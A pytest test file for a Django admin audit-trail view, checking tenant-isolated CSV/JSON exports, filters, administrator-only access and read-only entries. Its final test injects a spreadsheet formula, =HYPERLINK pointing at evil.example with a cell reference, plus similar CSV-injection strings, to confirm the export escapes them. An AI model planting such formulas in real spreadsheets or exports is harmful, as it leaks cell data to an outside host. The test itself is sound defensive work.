"""Cockpit: the audit trail, read-only, with filters and CSV/JSON export of the caller's tenant only."""

import csv
import io
import json
from typing import Any

import pytest

import audit
from audit.models import AuditEntry
from tenants.models import Role
from tests.factories import make_user
from tests.support.admin_isolation import AdminIsolationChecks
from tests.support.cockpit import admin_url, changelist_pks, cockpit_client, object_url, row_state

pytestmark = pytest.mark.django_db


def _entry(tenant: Any, event: str = "user.update") -> AuditEntry:
    user = make_user(tenant, Role.Kind.STANDARD)
    return audit.record(event, tenant=tenant, target=user, actor=user, data={"marker": tenant.slug})


class TestAuditEntryAdminIsolation(AdminIsolationChecks):
    model = AuditEntry
    filter_relations = {"actor": lambda entry: entry.actor}

    def make_object(self, tenant: Any) -> Any:
        return _entry(tenant)

    def search_term(self, obj: Any) -> str:
        return obj.object_repr


def _export(client: Any, fmt: str, **params: str) -> Any:
    response = client.get(admin_url(AuditEntry, "export", fmt), params)
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


def test_export_contains_only_own_tenant(acme, globex, acme_admin):
    own, foreign = _entry(acme), _entry(globex)
    client = cockpit_client(acme_admin)
    rows = json.loads(_export(client, "json"))
    ids = {row["id"] for row in rows}
    assert own.pk in ids and foreign.pk not in ids
    assert ids == set(AuditEntry.objects.filter(tenant=acme).values_list("pk", flat=True))
    lines = list(csv.DictReader(io.StringIO(_export(client, "csv"))))
    assert {int(line["id"]) for line in lines} == ids
    assert "globex" not in _export(client, "csv")


def test_export_follows_the_changelist_filters(acme, acme_admin):
    token_event = audit.record("token.create", tenant=acme, actor=acme_admin)
    _entry(acme)
    rows = json.loads(_export(cockpit_client(acme_admin), "json", event="token"))
    assert [row["id"] for row in rows] == [token_event.pk]


def test_export_cannot_be_pointed_at_another_tenant(acme, globex, acme_admin):
    _entry(globex)
    client = cockpit_client(acme_admin)
    assert client.get(admin_url(AuditEntry, "export", "xml")).status_code == 404
    for param in ("tenant__id__exact", "tenant"):
        response = client.get(admin_url(AuditEntry, "export", "json"), {param: str(globex.pk)})
        assert response.status_code == 400  # no list filter uses it


@pytest.mark.parametrize("kind", [Role.Kind.STANDARD, Role.Kind.BUSINESS])
def test_only_administrators_read_the_trail(acme, kind):
    client = cockpit_client(make_user(acme, kind))
    assert client.get(admin_url(AuditEntry, "changelist")).status_code == 403
    assert client.get(admin_url(AuditEntry, "export", "csv")).status_code == 403
    assert client.get(object_url(_entry(acme))).status_code == 404


def test_event_filter(acme, acme_admin):
    token_event = audit.record("token.create", tenant=acme, actor=acme_admin)
    other = _entry(acme)
    response = cockpit_client(acme_admin).get(admin_url(AuditEntry, "changelist"), {"event": "token"})
    pks = changelist_pks(response)
    assert token_event.pk in pks and other.pk not in pks
    assert "Export CSV" in response.content.decode()
    assert "export/csv/?event=token" in response.content.decode()


def test_entries_are_read_only(acme, acme_admin):
    entry = _entry(acme)
    client = cockpit_client(acme_admin)
    response = client.get(object_url(entry))
    assert response.status_code == 200
    assert 'name="_save"' not in response.content.decode()
    before = row_state(entry)
    assert client.post(object_url(entry), {"event": "forged"}).status_code == 403
    assert client.post(object_url(entry, "delete"), {"post": "yes"}).status_code == 403
    assert client.get(admin_url(AuditEntry, "add")).status_code == 403
    assert row_state(entry) == before


def test_csv_export_never_hands_a_spreadsheet_a_formula(acme, acme_admin):
    from devices.services.registry import do_update_device
    from tests.factories import make_device

    device, _ = make_device(acme)
    do_update_device(device, {"name": '=HYPERLINK("https://evil.example/?"&A1,"Open")'}, actor=acme_admin)
    for label in ("+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        audit.record("test.cell", tenant=acme, actor_label=label, actor_kind="system")
    rows = list(csv.DictReader(io.StringIO(_export(cockpit_client(acme_admin), "csv"))))
    cells = [value for row in rows for value in row.values() if value]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    assert "'=HYPERLINK" in {cell[:11] for cell in cells}
